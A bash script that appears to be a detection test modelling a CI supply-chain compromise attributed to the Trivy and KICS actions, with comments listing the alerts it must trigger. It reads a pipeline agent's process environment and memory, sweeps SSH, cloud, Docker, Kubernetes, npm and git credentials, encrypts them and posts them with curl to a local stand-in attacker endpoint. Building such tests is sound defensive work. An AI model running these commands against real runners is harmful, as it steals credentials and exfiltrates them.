#!/bin/bash
# Models the Trivy and KICS actions (2026-03): memory and environment of the pipeline agent, a sweep of credentials, an
# encrypted archive, a post to the attacker's host.
# must: discovery/pipeline-agent-search
# must: credential-access/process-environ-read | credential-access/pipeline-agent-reached-into
# must: credential-access/pipeline-agent-reached-into | credential-access/process-memory-read
# must: credential-access/credential-sweep
# must: collection/secrets-archived
# gate: fail
python3 /mnt/pipeline_agent.py & worker=$!
sleep 0.3
pgrep Runner.Worker > /dev/null
python3 - $worker <<'PY'
import sys
open(f"/proc/{sys.argv[1]}/environ", "rb").read()
maps = open(f"/proc/{sys.argv[1]}/maps").readline()
memory = open(f"/proc/{sys.argv[1]}/mem", "rb", 0)
memory.seek(int(maps.split("-")[0], 16))
memory.read(64)
PY
cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.docker/config.json ~/.kube/config ~/.npmrc ~/.git-credentials > /tmp/.l
tar cz -C ~ .ssh .aws .kube .l 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:decoy -out /tmp/tpcp.tar.gz.enc
curl -s -X POST --data-binary @/tmp/tpcp.tar.gz.enc http://127.0.0.1:8000/upload
kill $worker
